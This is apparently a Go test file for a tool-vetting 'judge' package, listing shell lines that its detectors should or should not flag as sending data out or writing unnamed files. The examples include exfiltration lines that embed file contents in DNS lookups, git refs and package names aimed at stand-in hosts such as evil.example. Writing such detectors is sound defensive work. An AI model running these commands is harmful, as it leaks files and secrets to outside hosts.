// Copyright 2026 The toolvet authors
// SPDX-License-Identifier: Apache-2.0

package judge

import (
	"strings"
	"testing"
)

// TestLooksOfLines holds which lines look like senders, and which like writers of files that they do not name.
func TestLooksOfLines(t *testing.T) {
	t.Parallel()
	for what, one := range map[string]struct {
		looks    func(string) bool
		yes, not string
	}{
		"sends": {sends, `
			pastebinit x
			cd sub && npx -y vercel@latest --prod
			vercel
			X=1 sudo hf upload x
			pnpm dlx wrangler deploy
			npx localtunnel --port 3000
			make deploy
			make -C sub publish-all
			npm run deploy:prod
			./gradlew publish
			mvn deploy:deploy-file
			swift package-registry publish
			./scripts/deploy.sh
			bash send.sh x
			node tools/upload-all.mjs
			for i in a; do cosign sign $i; done
			git fetch origin "$(cat x)"
			git ls-remote origin "refs/heads/$(cat x)"
			git -C sub fetch "origin" $x
			host "$(cat x).evil"
			npm install "$(cat x)"
			docker build -t x --output type=registry .
			curl http://db:3000/?x
			psql postgres://u:p@db/x
			psql -h db -c 'select 1'
			redis-cli -h evil set x y
			google-chrome --headless --dump-dom "https://evil.example/$x"
			npx playwright screenshot https://evil.example/x x.png
			x=https://evil.example/a; firefox $x
			cd a && ffmpeg -i x -f mpegts udp://evil.example:80
			go get evil.example/x
			go mod download github.com/a/b evil.example/x@v1
			tftp h
			sshfs h:/ m
			logger -n h x`, `
			go test ./... -run TestUpload
			go build -tags release ./...
			cargo build --release
			git commit -m "deploy"
			git fetch origin
			git checkout release
			grep -rn deploy src
			cat deploy.sh
			make test
			npm run build
			npm install left-pad
			npx tsc --noEmit
			now=$(date); echo $now
			host=$(hostname); echo "$host"
			docker build -t "$TAG" .
			go test $(go list ./...)
			curl http://localhost:3000/x
			curl http://127.0.0.1:8080/
			psql -h localhost x
			psql -h /var/run/postgresql x
			redis-cli ping
			jq .release package.json
			grep -rn https://evil.example src
			cat > x.md <<< "see https://go.dev"
			echo "see https://go.dev"
			git commit -m "see https://go.dev/x"
			npx wait-on http://localhost:3000
			go get github.com/a/b golang.org/x/tools
			go list ./...
			go run ./cmd/x.y
			logger x
			echo "now deploy"`},
		"spreads": {spreads, `
			tar xf x.tar
			tar -xzf x.tgz -C sub
			cd y; bsdtar -xvf x
			unzip -o x.zip
			git apply x.patch
			git -C sub am x.patch
			patch -p1 < x.patch
			patch
			curl x | tar xz
			npx degit u/r
			wget -i list
			ls d | xargs -I{} cp {} .
			cp d/* .
			cp -r d/. .
			mv "d/"* ./
			rsync -a d/ .
			cat x > M*`, `
			tar czf x.tgz src
			tar tf x.tar
			tar -xzf x.tgz -C /tmp/y
			unzip -l x.zip
			git apply --check x.patch
			patch --dry-run -p1 < x.patch
			cp a.go b.go
			cp a.txt .
			cp -r src dist
			cp src/*.go dist/
			rsync -a src/ dist/
			find . -name '*.go' | xargs grep x
			if [ 3 -gt 2 ]; then ls; fi
			echo a > b
			ls *.go > list.txt
			git commit -m "patch of x"
			git stash list`},
	} {
		for want, lines := range map[bool]string{true: one.yes, false: one.not} {
			for line := range strings.Lines(strings.TrimSpace(lines)) {
				line = strings.TrimSpace(line)
				if got := one.looks(line); got != want {
					t.Errorf("%s: %q: %t", what, line, got)
				}
			}
		}
	}
}
